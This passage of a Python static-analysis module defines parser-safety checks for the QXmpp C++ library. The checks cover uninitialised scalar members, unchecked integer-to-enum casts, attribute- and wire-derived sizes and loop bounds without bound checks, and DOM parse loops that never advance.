R1 no scalar member of a parsed record can be read while indeterminate (definite initialisation, creation-site exact)
R2 an integer is converted to an enum only behind a check of that integer
R3 no allocation size / index / loop bound is computed from an attribute, text or wire integer without a dominating bound
R4 nothing is consumed twice (one parse/serialize pass is a fix-point) — shared with C01.R5
"""
import os
import re

from .. import build, facts
from ..build import AnalysisBroken
from ..effects import classify_use
from . import C01

UNITS = 'all'
SCALAR = ('enum:', 'bool', 'int', 'float', 'ptr')


def is_scalar(tc):
    return tc.startswith(SCALAR)


# ------------------------------------------------------------------------------------------- R1
def _is_qobject(prog, q):
    from ..codec import record_chain
    return any(b in ('QObject', 'QXmppLoggable', 'QXmppClientExtension', 'QIODevice', 'QTcpServer', 'QThread', 'QTcpSocket', 'QSslSocket',
                     'QUdpSocket', 'QAbstractSocket', 'QTimer', 'QSslServer')
               for b in record_chain(prog, q))


def _must_assign(prog, fn, field, depth=0, seen=None):
    """the function assigns this->field on every path (directly or through a method called on this)"""
    seen = seen or set()
    if fn.id in seen or depth > 3:
        return False
    seen.add(fn.id)
    for i, n in fn.all_nodes('assign'):
        l = fn.nodes[fn.skip(n['l'])]
        if l['k'] == 'mem' and l['f'] == field and _always(fn, i):
            return True
    for i, n in fn.calls():
        o = n.get('obj')
        if o is not None and fn.nodes[fn.skip(o)]['k'] == 'this' and _always(fn, i):
            for g in _targets(prog, fn, n):
                if _must_assign(prog, g, field, depth + 1, seen):
                    return True
    return False


def _always(fn, nid):
    pos = fn.pos(nid)
    return bool(pos) and (pos[0] == fn.entry or ('b', pos[0]) in fn.pdom().get(('b', fn.entry), set()))


def _targets(prog, fn, n, rec=None):
    """callee definitions; virtual calls are resolved into overrides defined for the given record chain"""
    from ..codec import record_chain
    out = list(prog.callee_fns(fn, n))
    s = fn.sym(n)
    if s and s.get('virtual') and rec:
        for r in record_chain(prog, rec):
            for g in prog.fns_named(r + '::' + s['name']):
                if g not in out:
                    out.append(g)
    return out


def _assigned_after_creation(prog, f, i, field, rec):
    """in the creating function: the field of the new object is assigned on every path after the creation"""
    pi = f.pos(i)
    if pi is None:
        return False

    def after(j):
        pj = f.pos(j)
        return bool(pj) and f.node_dominates(i, j) and (pj[0] == pi[0] or ('b', pj[0]) in f.pdom().get(('b', pi[0]), set()))
    for j, a in f.all_nodes('assign'):
        l = f.nodes[f.skip(a['l'])]
        if l['k'] == 'mem' and l['f'] == field and after(j):
            return True
    # which local holds the new object?
    par = f.parents()
    holder = None
    p = par.get(i)
    hops = 0
    while p is not None and hops < 4:
        pn = f.nodes[p]
        if pn['k'] == 'decl':
            for d in pn['decls']:
                if d.get('init') is not None and i in list(f.walk(d['init'])):
                    holder = d['var']
        p = par.get(p)
        hops += 1
    for j, n in f.calls():
        o = n.get('obj')
        if o is None or not after(j):
            continue
        on = f.nodes[f.resolve(o)] if f.nodes[f.skip(o)]['k'] != 'var' else f.nodes[f.skip(o)]
        if holder is not None and on.get('decl') == holder:
            for g in _targets(prog, f, n, rec):
                if _must_assign(prog, g, field):
                    return True
    return False


def rule_init(prog, run, rid, control=False):
    n_rec = 0
    creations = {}       # record qname -> [(fn, nid, how, default_init)]
    for f in prog.fns.values():
        if f.raw.get('dependent'):
            continue
        for i, n in enumerate(f.nodes):
            if n['k'] == 'new' and n.get('tc', '').startswith('record:'):
                creations.setdefault(n['tc'][7:], []).append((f, i, 'new %s' % n['cls'], n.get('init') == 'none'))
            elif n['k'] == 'call' and f.cname(n) in ('std::make_unique', 'std::make_shared', 'QSharedPointer::create'):
                m = re.match(r'<([^,>]+)', f.sym(n).get('targs', ''))
                if m:
                    creations.setdefault(m.group(1).strip(), []).append((f, i, f.cname(n) + m.group(0) + '>', False))
            elif n['k'] == 'construct' and not n.get('temp') and n.get('cls'):
                dflt = bool(n.get('defctor') and n.get('implicit_ctor') and not n.get('zero') and not n.get('list') and not n.get('args'))
                creations.setdefault(n['cls'], []).append((f, i, '%s x;' % n['cls'], dflt))
    for q, r in sorted(prog.records.items()):
        if r.get('targs') or not r['file'].startswith(build.REPO if not control else os.path.dirname(r['file'])):
            continue
        if _is_qobject(prog, q):
            continue            # QObject-derived: not a parsed value, never copied
        relf = r['file'].replace(build.REPO + '/', '')
        for fl in r['fields']:
            if is_scalar(fl['tc']) and fl.get('dmi'):
                run.instance(rid)
                run.ok(rid, '%s:%d' % (relf, fl['line']), '%s has a default member initialiser' % fl['qname'], nontrivial=False)
        cands = [fl for fl in r['fields'] if is_scalar(fl['tc']) and not fl.get('dmi')]
        if not cands:
            continue
        user_ctors = [c for c in r['ctors'] if c['user_provided'] and not c['copy_or_move']]
        relfile = r['file'].replace(build.REPO + '/', '')
        sites = creations.get(q, [])
        if user_ctors:
            n_rec += 1
            for c in user_ctors:
                fn = prog.fns.get(c['usr'])
                if fn is None:
                    continue
                inits = fn.raw.get('ctor_inits', [])
                if any(True for n in fn.nodes if n['k'] == 'init' and n.get('delegating')):
                    continue
                covered = {i['f'] for i in inits if i.get('written') or i.get('by_default_member_init')}
                for fl in cands:
                    run.instance(rid)
                    if fl['qname'] in covered or _must_assign(prog, fn, fl['qname']):
                        run.ok(rid, fn.loc(), '%s initialised by %s' % (fl['qname'], fn.display()[:60]), nontrivial=False)
                        continue
                    # assigned by whoever constructs the object?
                    ctor_sites = [(f, i, how) for f, i, how, dflt in sites
                                  if f.nodes[i]['k'] in ('new', 'call') or len(f.nodes[i].get('args', [])) == c['nparams']]
                    if ctor_sites and all(_assigned_after_creation(prog, f, i, fl['qname'], q) for f, i, how in ctor_sites):
                        run.ok(rid, fn.loc(), '%s assigned by every creating function right after construction' % fl['qname'])
                        continue
                    run.violation(rid, '%s#ctor/%d' % (fl['qname'], c['nparams']), '%s:%d' % (relfile, fl['line']),
                                  '%s (%s) is left indeterminate by constructor %s at %s; it is read when the object is copied or serialized'
                                  % (fl['qname'], fl['t'], fn.display()[:70], fn.loc()))
        else:
            dsites = [(f, i, how) for f, i, how, dflt in sites if dflt]
            if not dsites:
                continue
            n_rec += 1
            for fl in cands:
                run.instance(rid)
                bad_sites = [(f, i, how) for f, i, how in dsites if not _assigned_after_creation(prog, f, i, fl['qname'], q)]
                if bad_sites:
                    f, i, how = bad_sites[0]
                    run.violation(rid, '%s#default-init' % fl['qname'], '%s:%d' % (relfile, fl['line']),
                                  '%s (%s) has no initialiser and the record is default-initialised (%s) at %s (%d such site(s)): the member is '
                                  'indeterminate for inputs that do not set it, and is read when the value is copied or serialized'
                                  % (fl['qname'], fl['t'], how, f.loc(i), len(bad_sites)),
                                  ['%s %s' % (g.loc(j), h) for g, j, h in bad_sites[:6]])
                else:
                    run.ok(rid, '%s:%d' % (relfile, fl['line']), '%s assigned after every default-initialising creation' % fl['qname'])
    return n_rec


# ------------------------------------------------------------------------------------------- R2
def _mentions(f, cond, target):
    return target in f.fmt(cond)


def rule_enum_casts(prog, run, rid):
    n = 0
    for f in prog.fns.values():
        if f.raw.get('dependent'):
            continue
        for i, nd in f.all_nodes('cast'):
            if not (nd.get('tc', '').startswith('enum:') and nd.get('from', '').startswith('int')):
                continue
            inner_id = f.resolve(nd['e'])
            inner = f.nodes[inner_id]
            if inner['k'] in ('int', 'enum', 'char'):
                continue
            if f.const_value(nd['e']) is not None:
                continue
            txt = f.fmt(inner_id)
            # bit flags: 1 << x, a | b
            bo = f.binop(inner_id)
            if bo and bo[0] in ('<<', '|', '&', '^'):
                continue
            if inner['k'] == 'un' and inner['op'] in ('-', '~') :
                continue
            n += 1
            run.instance(rid)
            raw_txt = f.fmt(nd['e'], inline=False)
            targets = {txt, raw_txt}
            # (a) std::distance(begin, it) guarded by it != end
            guarded = None
            atoms = f.atomic_assertions_at(i)
            if inner['k'] == 'call' and f.cname(inner) == 'std::distance':
                it = f.fmt(inner['args'][1], inline=False)
                for c, pol in atoms:
                    b2 = f.binop(c)
                    if b2 and isinstance(pol, bool) and it in f.fmt(c, inline=False) and '::end()' in f.fmt(c, inline=False) \
                            and ((b2[0] == '!=' and pol) or (b2[0] == '==' and not pol)):
                        guarded = 'iterator != end()'
            # (b) any dominating comparison on the operand
            if not guarded:
                for c, pol in atoms:
                    b2 = f.binop(c)
                    if b2 and b2[0] in ('<', '<=', '>', '>=', '!=', '==') and isinstance(pol, bool):
                        ctext = {f.fmt(c), f.fmt(c, inline=False)}
                        if any(t in ct for t in targets for ct in ctext):
                            guarded = 'comparison %s' % f.fmt(c, inline=False)[:50]
            # (c) arm of a conditional expression testing the operand
            if not guarded:
                par = f.parents()
                p = par.get(i)
                hops = 0
                while p is not None and hops < 4:
                    pn = f.nodes[p]
                    if pn['k'] == 'cond' and any(t in f.fmt(pn['c']) or t in f.fmt(pn['c'], inline=False) for t in targets):
                        guarded = 'conditional on %s' % f.fmt(pn['c'], inline=False)[:50]
                        break
                    p = par.get(p)
                    hops += 1
            # (d) loop counter bounded by the loop condition (assertion on the counter)
            if guarded:
                run.ok(rid, f.loc(i), '%s: %s' % (f.fmt(i)[:60], guarded))
            else:
                top = f.outer_name()
                run.violation(rid, '%s#enum-cast:%s' % (top, nd['tc'][5:]), f.loc(i),
                              'integer %s converted to %s without a check of its range' % (raw_txt[:60], nd['tc'][5:]))
    return n


# ------------------------------------------------------------------------------------------- R3
_PARSE_INT = {'toInt', 'toUInt', 'toLong', 'toULong', 'toLongLong', 'toULongLong', 'toShort', 'toUShort', 'toDouble', 'toFloat'}
_XML_SRC = ('QDomElement::attribute', 'QDomElement::text', 'QDomNode::nodeValue', 'QDomElement::attributeNS', 'QXmlStreamReader::readElementText',
            'QXmlStreamAttributes::value', 'QXmlStreamReader::text')
_SIZE_SINKS = {'resize', 'reserve', 'fill', 'squeeze', 'setRawData'}
_INDEX_SINKS = {'at', 'operator[]', 'mid', 'left', 'right', 'remove', 'insert', 'replace', 'chop', 'truncate', 'sliced', 'first', 'last',
                'chopped', 'value', 'takeAt', 'removeAt', 'substr'}


def rule_taint(prog, run, rid, only_files=None):
    n_src = 0
    for f in prog.fns.values():
        if f.raw.get('dependent'):
            continue
        if only_files and not any(f.file.endswith(x) for x in only_files):
            continue
        # tainted source nodes: integer parsed from XML text, or read from a QDataStream
        src_nodes = {}
        for i, n in f.calls():
            s = f.sym(n)
            if not s:
                continue
            if s['name'] in _PARSE_INT and n.get('obj') is not None:
                chain = f.fmt(n['obj'])
                if any(x.split('::')[-1] + '(' in chain and x in chain for x in _XML_SRC):
                    src_nodes[i] = 'integer parsed from ' + chain[:50]
            elif s['qname'].startswith('QXmpp::Private::parseInt') and n.get('args'):
                chain = f.fmt(n['args'][0])
                if any(x in chain for x in _XML_SRC):
                    src_nodes[i] = 'parseInt(' + chain[:40] + ')'
        stream_vars = {}
        for i, n in f.calls():
            if n.get('op') == '>>' and len(n.get('opargs', [])) == 2 and 'QDataStream' in f.cname(n):
                v = f.nodes[f.skip(n['opargs'][1])]
                if v['k'] == 'var':
                    stream_vars[v['decl']] = (v['name'], v.get('tc', ''))
        if not src_nodes and not stream_vars:
            continue
        n_src += len(src_nodes) + len(stream_vars)

        def tainted(nid, depth=0):
            """(description, type class) if the expression derives from a source"""
            if depth > 8:
                return None
            for j in f.walk(nid):
                if j in src_nodes:
                    return (src_nodes[j], 'int32s')
                m = f.nodes[j]
                if m['k'] == 'var' and m.get('vk') == 'local':
                    if m['decl'] in stream_vars:
                        return ('wire integer ' + stream_vars[m['decl']][0], stream_vars[m['decl']][1])
                    for d in f.all_defs(m['decl']):
                        if d != nid:
                            t = tainted(d, depth + 1)
                            if t:
                                return t
            return None

        def bounded(site, expr):
            texts = set()
            for j in f.walk(expr):
                m = f.nodes[j]
                if m['k'] == 'var' and m.get('vk') == 'local':
                    texts.add(m['name'])
                if j in src_nodes:
                    texts.add(f.fmt(j))
            for c, pol in f.atomic_assertions_at(site):
                b2 = f.binop(c)
                if b2 and b2[0] in ('<', '<=', '>', '>=', '==', '!=') and isinstance(pol, bool):
                    ct = f.fmt(c, inline=False)
                    if any(re.search(r'(?<![A-Za-z_])%s(?![A-Za-z_0-9])' % re.escape(t), ct) for t in texts if t):
                        return f.fmt(c, inline=False)[:60]
            return None

        for i, n in f.calls():
            s = f.sym(n)
            if not s:
                continue
            name = s['name']
            kind = None
            args = n.get('args', [])
            if name in _SIZE_SINKS and args:
                kind = 'size'
            elif name in _INDEX_SINKS and args and s.get('record', '').split('<')[0] in ('QString', 'QByteArray', 'QList', 'QVector', 'QStringList',
                                                                                          'std::vector', 'std::array', 'QStringView', 'std::basic_string'):
                kind = 'index'
            if n['k'] == 'construct' and n.get('cls', '').split('<')[0] in ('QByteArray', 'QVector', 'QString', 'std::vector') and len(args) >= 1:
                a0 = f.nodes[f.resolve(args[0])]
                if a0.get('tc', '').startswith('int') or a0['k'] in ('bin', 'call', 'var', 'icast'):
                    kind = 'size'
            if not kind:
                continue
            for a in args[:2]:
                t = tainted(a)
                if not t:
                    continue
                run.instance(rid)
                b = bounded(i, a)
                small = t[1] in ('int8u', 'int8s', 'int16u', 'int16s')
                if b:
                    run.ok(rid, f.loc(i), '%s(%s): bounded by %s' % (name, f.fmt(a, inline=False)[:40], b))
                elif kind == 'size' and small:
                    run.ok(rid, f.loc(i), '%s(%s): 16-bit wire length bounds the allocation' % (name, f.fmt(a, inline=False)[:40]))
                else:
                    run.violation(rid, '%s#%s:%s' % (f.outer_name(), name, f.fmt(a, inline=False)[:30]), f.loc(i),
                                  '%s argument %s derives from %s and reaches %s() without a dominating bound check'
                                  % (kind, f.fmt(a, inline=False)[:50], t[0], name))
                break
        for i, n in enumerate(f.nodes):
            if n['k'] == 'new' and 'size' in n:
                t = tainted(n['size'])
                if t:
                    run.instance(rid)
                    if bounded(i, n['size']):
                        run.ok(rid, f.loc(i), 'new[] size bounded')
                    else:
                        run.violation(rid, '%s#new[]' % f.outer_name(), f.loc(i), 'array size derives from %s without a bound' % t[0])
        # loop bounds
        for b in f.blocks.values():
            t = b.get('term')
            if t and t['k'] in ('for', 'while', 'do') and 'cond' in t:
                bo = f.binop(t['cond'])
                if bo and bo[0] in ('<', '<=', '>', '>=', '!='):
                    for side in bo[1:]:
                        tt = tainted(side)
                        if tt and tt[1] not in ('int8u', 'int8s', 'int16u', 'int16s'):
                            run.instance(rid)
                            pos = (b['id'], 0)
                            bb = None
                            for c, pol in f.atomic_assertions_at(pos):
                                if f.binop(c) and any(x in f.fmt(c, inline=False) for x in [f.fmt(side, inline=False)]):
                                    bb = f.fmt(c, inline=False)
                            if bb:
                                run.ok(rid, '%s:%d' % (f.relfile, t['ln']), 'loop bound %s checked: %s' % (f.fmt(side, inline=False)[:30], bb[:40]))
                            else:
                                run.violation(rid, '%s#loop-bound:%s' % (f.outer_name(), f.fmt(side, inline=False)[:30]), '%s:%d' % (f.relfile, t['ln']),
                                              'loop bound %s derives from %s without a bound check (unbounded work)' % (f.fmt(side, inline=False)[:40], tt[0]))
    return n_src


# sites whose non-emptiness follows from facts outside the function (one reason each)
FIRST_OK = {
    'parseCustomQuery': 'only called by QXmppUri::fromString behind "!urlQuery.isEmpty()" (a non-empty query has at least one item)',
    'QXmppUri::fromString': 'behind "!urlQuery.isEmpty()": a non-empty QUrlQuery has at least one item (asserted in the code)',
    'QXmpp::Private::verifyHashes': 'the hash vector is built from a non-empty request list (asserted in the code)',
    'QXmppAttentionManagerPrivate::cleanUp': 'timer callback: the timer is armed only while the list has an entry',
    'QXmppUploadRequestManager::requestUploadSlot': 'behind serviceFound(), which is "!uploadServices.isEmpty()"',
    'QXmppUploadRequestManager::requestSlot': 'behind serviceFound(), which is "!uploadServices.isEmpty()"',
}
_FIRST_NAMES = ('first', 'constFirst', 'last', 'constLast', 'takeFirst', 'takeLast', 'front', 'back', 'pop_front', 'pop_back', 'removeFirst', 'removeLast')


def rule_first_of_nonempty(prog, run, rid):
    n = 0
    for f in prog.fns.values():
        if f.raw.get('dependent') or f.entry is None or '/src/' not in f.file:
            continue
        for i, c in f.calls():
            s = f.sym(c) or {}
            if s.get('name') not in _FIRST_NAMES or c.get('obj') is None:
                continue
            if not any(x in (s.get('record') or '') for x in ('QList', 'QVector', 'QStringList', 'vector', 'QByteArrayList')):
                continue
            cont = f.fmt(c['obj'])
            n += 1
            run.instance(rid)
            if any(x in cont for x in ('QString::split', 'QStringView::split', 'QByteArray::split')):
                run.ok(rid, f.loc(i), 'result of split(): never empty', nontrivial=False)
                continue
            alt = {cont, f.fmt(c['obj'], inline=False)}
            guarded = False
            for a, pol in f.atomic_assertions_at(i):
                t = f.fmt(a)
                t2 = f.fmt(a, inline=False)
                if any(x in t or x in t2 for x in alt):
                    if (('isEmpty()' in t or 'empty()' in t) and pol is False) or any(k in t for k in ('::size()', '::count()', '::length()')):
                        guarded = True
            # x.isEmpty() ? y : x.first()
            par = f.parents()
            p_ = par.get(i)
            hops = 0
            while p_ is not None and hops < 6 and not guarded:
                pn = f.nodes[p_]
                if pn['k'] == 'cond' and any(x in f.fmt(pn['c']) for x in alt) and 'isEmpty()' in f.fmt(pn['c']):
                    guarded = True
                p_ = par.get(p_)
                hops += 1
            top = f
            while top.is_lambda and top.parent_id in prog.fns:
                top = prog.fns[top.parent_id]
            if guarded:
                run.ok(rid, f.loc(i), '%s.%s() behind a non-emptiness test' % (cont[-40:], s['name']))
            elif top.qname in FIRST_OK or f.qname in FIRST_OK:
                run.ok(rid, f.loc(i), 'listed: %s' % FIRST_OK.get(top.qname, FIRST_OK.get(f.qname)), nontrivial=False)
            else:
                run.violation(rid, '%s#first-of-possibly-empty:%s' % (top.qname, s['name']), f.loc(i),
                              '%s takes %s() of %s without a test that the list is not empty: for an input without such an element this reads outside the list '
                              '(undefined behaviour, a crash in practice)' % (top.display()[:50], s['name'], cont[:70]))
    return n


def rule_loop_progress(prog, run, rid):
    """every loop whose condition is "<local DOM node>.isNull()" re-assigns that node on every path back to the loop head"""
    n_loops = 0
    for f in prog.fns.values():
        if f.entry is None or f.raw.get('dependent'):
            continue
        dom = None
        for b in f.blocks.values():
            t = b.get('term')
            if not t or t.get('k') not in ('while', 'for', 'do') or 'cond' not in t:
                continue
            # loop variables: locals whose isNull()/atEnd() is tested in the condition
            lvars = {}
            for j in f.walk(t['cond']):
                m = f.nodes[j]
                if m['k'] == 'call' and f.cname(m) in ('QDomNode::isNull', 'QDomElement::isNull') and m.get('obj') is not None:
                    o = f.nodes[f.skip(m['obj'])]
                    if o['k'] == 'var' and o.get('vk') == 'local':
                        lvars[o['decl']] = o.get('name', '?')
            if not lvars:
                continue
            if dom is None:
                dom = f.dom()
            body_entry = b['succs'][0] if t['k'] != 'do' else None
            if body_entry is None:
                continue
            preds = f.preds_map()
            # the loop head is the target of the back edge: with a short-circuit condition (a && b) the terminator sits on the block of the last operand
            # while the body jumps back to the block of the first one
            head = b['id']
            best = -1
            for h in f.blocks:
                if h != b['id'] and ('b', h) not in dom.get(('b', b['id']), set()):
                    continue
                if any((('b', h) in dom.get(('b', u), set()) or u == h) and (u == body_entry or ('b', body_entry) in dom.get(('b', u), set())) for u in preds.get(h, ())):
                    if len(dom.get(('b', h), set())) > best:
                        best, head = len(dom.get(('b', h), set())), h
            in_loop = {x for x in f.blocks if ('b', head) in dom.get(('b', x), set())}
            # blocks of the loop = dominated by the head and able to reach it again
            reach_head = set()
            stack = [head]
            while stack:
                x = stack.pop()
                for pr in preds.get(x, ()):
                    if pr in in_loop and pr not in reach_head and pr != head:
                        reach_head.add(pr)
                        stack.append(pr)
            for decl, name in lvars.items():
                n_loops += 1
                run.instance(rid)
                assigns = set()
                loop_blocks = reach_head | {head, body_entry}
                cand = []
                for i, n in f.all_nodes('assign'):
                    l = f.nodes[f.skip(n['l'])]
                    if l['k'] == 'var' and l.get('decl') == decl and f.pos(i):
                        cand.append((i, n['r']))
                for i, n in f.calls():
                    if n.get('op') == '=' and len(n.get('opargs', [])) == 2 and f.nodes[f.skip(n['opargs'][0])].get('decl') == decl and f.pos(i):
                        cand.append((i, n['opargs'][1]))
                # locals that change inside the loop (a value computed from them moves)
                moving = {decl}
                for i, n in f.all_nodes('assign'):
                    l = f.nodes[f.skip(n['l'])]
                    if l['k'] == 'var' and f.pos(i) and f.pos(i)[0] in loop_blocks:
                        moving.add(l.get('decl'))
                for i, n in f.all_nodes('un'):
                    if n.get('op') in ('pre++', 'post++', 'pre--', 'post--') and f.pos(i) and f.pos(i)[0] in loop_blocks:
                        moving.add(f.nodes[f.skip(n['e'])].get('decl'))
                for i, rhs in cand:
                    # an advance is computed from the node itself (x = x.nextSibling...) or from something that moves; re-computing the same value from
                    # loop-invariant operands (x = parent.nextSiblingElement(name)) restarts the search and never terminates
                    if any(f.nodes[j]['k'] == 'var' and f.nodes[j].get('decl') in moving for j in f.walk(rhs)) \
                            or any(f.nodes[j]['k'] == 'call' and not (f.sym(f.nodes[j]) or {}).get('const', True) and f.nodes[j].get('obj') is not None
                                   and f.nodes[f.skip(f.nodes[j]['obj'])]['k'] == 'var' for j in f.walk(rhs)):
                        assigns.add(f.pos(i)[0])
                # search a path body_entry -> head through loop blocks that never passes an assigning block
                seen = set()
                stack = [(body_entry, [body_entry])]
                witness = None
                while stack and witness is None:
                    x, path = stack.pop()
                    if x in seen or x in assigns:
                        continue
                    seen.add(x)
                    for sx in f.blocks[x]['succs']:
                        if sx is None:
                            continue
                        if sx == head:
                            witness = path
                            break
                        if sx in reach_head:
                            stack.append((sx, path + [sx]))
                if body_entry not in reach_head and body_entry != head:
                    run.ok(rid, f.loc(t['cond']), 'loop over %s never iterates twice' % name, nontrivial=False)
                elif witness is None:
                    run.ok(rid, f.loc(t['cond']), '%s: %s is advanced on every path back to the loop head' % (f.display()[:50], name))
                else:
                    lines = sorted({f.nodes[e].get('ln') for x in witness for e in f.blocks[x]['elems'] if f.nodes[e].get('ln')})
                    run.violation(rid, '%s#loop-without-progress#%s' % (f.qname, name), f.loc(t['cond']),
                                  'the loop over DOM node "%s" has a path back to its head that does not advance the node (lines %s..%s, e.g. a continue before '
                                  'the nextSibling assignment): parsing such a document never terminates' % (name, lines[0] if lines else '?', lines[-1] if lines else '?'))
    return n_loops


def rule_sibling_order(prog, run, rid):
    """inside a per-child dispatch (a loop over DOM children, or parseExtension which is called once per child) no arm stores into a member a value read
    from a *different* member that another arm of the same dispatch writes: the result would depend on the order of the siblings, and since the serializer
    emits them in one fixed order, parse(serialize(parse(x))) differs from parse(x) for one of the two input orders"""
    n = 0
    for f in prog.fns.values():
        if f.is_lambda or f.entry is None or f.raw.get('dependent'):
            continue
        if not (f.name.startswith('parse') or f.name == 'fromDom'):
            continue
        per_child = f.name == 'parseExtension'
        loops = set()
        if not per_child:
            dom = f.dom()
            for b in f.blocks.values():
                t = b.get('term')
                if t and t.get('k') in ('rangefor', 'for', 'while') and b['succs'] and b['succs'][0] is not None:
                    loops |= {x for x in f.blocks if ('b', b['succs'][0]) in dom.get(('b', x), set())}
        writes = {}
        for i, nd in enumerate(f.nodes):
            if nd['k'] == 'mem':
                k, h = classify_use(f, i)
                if k in ('write', 'addr') and f.pos(i) and (per_child or f.pos(i)[0] in loops):
                    writes.setdefault(nd['f'], []).append(i)
        if not writes:
            continue
        n += 1
        run.instance(rid)
        bad = None
        for i, nd in f.all_nodes('assign'):
            l = f.nodes[f.skip(nd['l'])]
            if l['k'] != 'mem' or not f.pos(i) or not (per_child or f.pos(i)[0] in loops):
                continue
            for j in f.walk(nd['r']):
                m = f.nodes[j]
                if m['k'] == 'mem' and m['f'] != l['f'] and m['f'] in writes:
                    other = [w for w in writes[m['f']] if not f.node_dominates(w, i) and not f.node_dominates(i, w)]
                    if other:
                        bad = (i, l['f'].split('::')[-1], m['f'].split('::')[-1], other[0])
        if bad:
            i, g, src, w = bad
            run.violation(rid, '%s#sibling-order#%s<-%s' % (f.qname, g, src), f.loc(i),
                          'while one child element is parsed, %s is set from %s, which the arm of a different child element writes (%s): the parsed object depends on the '
                          'order of the siblings, so re-parsing the library\'s own output (fixed order) gives a different object' % (g, src, f.loc(w)))
        else:
            run.ok(rid, f.loc(), '%s: no member is derived from a sibling element\'s member inside the per-child dispatch' % f.display()[:60], nontrivial=False)
    return n


def rule_unsigned_le(prog, run, rid):
    """for (i = ...; i <= n; i++) with i and n of the same unsigned type and n a parameter: never false for n == max, the loop does not terminate"""
    n_loops = 0
    for f in prog.fns.values():
        if f.entry is None or f.raw.get('dependent'):
            continue
        for b in f.blocks.values():
            t = b.get('term')
            if not t or t.get('k') not in ('for', 'while', 'do') or 'cond' not in t:
                continue
            n_loops += 1
            for j in f.walk(t['cond']):
                bo = f.binop(j)
                if not bo or bo[0] not in ('<=', '>='):
                    continue
                cnt, bound = (bo[1], bo[2]) if bo[0] == '<=' else (bo[2], bo[1])
                cn, bn = f.nodes[f.skip(cnt)], f.nodes[f.skip(bound)]
                # no integral promotion in between: both operands already have the same unsigned type of at least int width
                if cn['k'] != 'var' or cn.get('vk') != 'local' or not (cn.get('tc') or '').endswith('u') or cn.get('tc') != bn.get('tc') or cn.get('tc') in ('int8u', 'int16u'):
                    continue
                ext = bn['k'] == 'var' and bn.get('vk') == 'param' or (bn['k'] == 'mem' and any(f.nodes[x].get('vk') == 'param' for x in f.walk(bound)))
                incs = [i for i, n in f.all_nodes('un') if n['op'] in ('post++', 'pre++') and f.nodes[f.skip(n['e'])].get('decl') == cn['decl']]
                if not ext or not incs:
                    continue
                run.instance(rid)
                run.violation(rid, '%s#unsigned-le-bound' % f.qname, f.loc(j),
                              'loop condition %s compares two %s values with <= and counts up to a caller-supplied bound: for the maximal value the condition is '
                              'never false and the loop does not terminate (and up to 2^32 iterations for other large values)' % (f.fmt(j, inline=False)[:60], cn.get('t')))
    return n_loops


def rule_fresh_per_iteration(prog, run, rid):
    """a record that is appended to a result list in every iteration of a parse loop is created inside the loop body (or reassigned as a whole there):
    an object declared outside keeps what only some iterations set (appended lists, fields set under a condition)"""
    n = 0
    for f in prog.fns.values():
        if f.is_lambda or f.entry is None or f.raw.get('dependent') or not (f.name.startswith('parse') or f.name == 'fromDom'):
            continue
        dom = f.dom()
        defs = f.defs()
        for b in f.blocks.values():
            t = b.get('term')
            if not t or t.get('k') not in ('rangefor', 'for', 'while') or not b['succs'] or b['succs'][0] is None:
                continue
            body = {x for x in f.blocks if ('b', b['succs'][0]) in dom.get(('b', x), set())}
            for i, nd in f.calls():
                if not f.pos(i) or f.pos(i)[0] not in body:
                    continue
                s = f.sym(nd) or {}
                if s.get('name') not in ('append', 'push_back', 'operator<<', 'insert', 'emplace_back', 'prepend'):
                    continue
                args = nd.get('opargs', nd.get('args', []))
                vals = args[1:] if nd.get('op') else args
                for a in vals:
                    an = f.nodes[f.skip(a)]
                    if an['k'] != 'var' or an.get('vk') != 'local' or not (an.get('tc') or '').startswith('record:'):
                        continue
                    d = defs.get(an['decl'])
                    if not d or d.get('rangevar') or d.get('ref'):
                        continue
                    rec = (an.get('tc') or '')[7:]
                    if rec.split('<')[0] in ('QString', 'QByteArray', 'QStringList', 'QDomElement', 'QDomNode', 'QUrl', 'QDateTime', 'QVariant', 'QList', 'QVector', 'QMap', 'QHash'):
                        continue
                    n += 1
                    run.instance(rid)
                    dpos = f.pos(d['node'])
                    inside = dpos and dpos[0] in body
                    reassigned = False
                    for k2, asn in f.all_nodes('assign'):
                        l = f.nodes[f.skip(asn['l'])]
                        if l['k'] == 'var' and l.get('decl') == an['decl'] and f.pos(k2) and f.pos(k2)[0] in body and f.node_dominates(k2, i):
                            reassigned = True
                    for k2, c2 in f.calls():
                        if c2.get('op') == '=' and c2.get('opargs') and f.nodes[f.skip(c2['opargs'][0])].get('decl') == an['decl'] and f.pos(k2) and f.pos(k2)[0] in body \
                                and f.node_dominates(k2, i):
                            reassigned = True
                    if inside or reassigned:
                        run.ok(rid, f.loc(i), '%s: %s is fresh in every iteration' % (f.display()[:50], an.get('name')), nontrivial=False)
                    else:
                        run.violation(rid, '%s#stale-object#%s' % (f.qname, an.get('name')), f.loc(i),
                                      '%s (%s) is declared outside the loop and appended in every iteration without being reset: what an earlier element set (appended '
                                      'lists, conditionally set fields) leaks into the following elements, and grows with every parse/serialize pass' % (an.get('name'), rec))
    return n


def run(prog, run):
    run.explanation = ('Structural safety clauses for every parser: scalar members of parsed records are definitely initialised at every creation site; '
                       'integers become enums only behind a check; sizes, indices and loop bounds derived from attributes/text/wire integers are '
                       'dominated by a bound; no child is consumed twice (fix-point). Each zero-expected rule is run on a positive control that must fire.')
    run.assume('absence of crashes/UB in general, termination for deeply nested input and value-level idempotence need execution; not decided here')
    r1 = run.rule('C02.R1', 'every scalar member without default initialiser is initialised by each user constructor, or the record is never '
                            'default-initialised without the member being assigned', floor=260)
    nrec = rule_init(prog, run, r1)
    run.extra['records_with_uninitialised_candidates'] = nrec
    r2 = run.rule('C02.R2', 'an integer is converted to an enum only behind a check of that integer (iterator != end, comparison, conditional)', floor=18)
    rule_enum_casts(prog, run, r2)
    r3 = run.rule('C02.R3', 'sizes, indices and loop bounds computed from attributes, element text or wire integers are dominated by a bound check '
                            '(16-bit wire lengths bound allocations by type)', floor=8)
    nsrc = rule_taint(prog, run, r3)
    run.extra['taint_sources'] = nsrc
    r4 = run.rule('C02.R4', 'one parse/serialize pass is a fix-point: typed children are not re-captured as generic extensions (= C01.R5)', floor=0)
    sub = type(run)(run.prop, run.tier, run.seed)
    C01.rule_single_consumption(prog, sub)
    for v in sub.violations:
        run.rules[r4]['matched'] += 1
        run.violation(r4, v['key'], v['site'], v['what'], v['path'])
    for r in sub.rules.values():
        run.rules[r4]['matched'] += r['matched']
        run.rules[r4]['obligations'] += r['discharged']
        run.rules[r4]['discharged'] += r['discharged']
        run.rules[r4]['samples'] += r['samples'][:3]

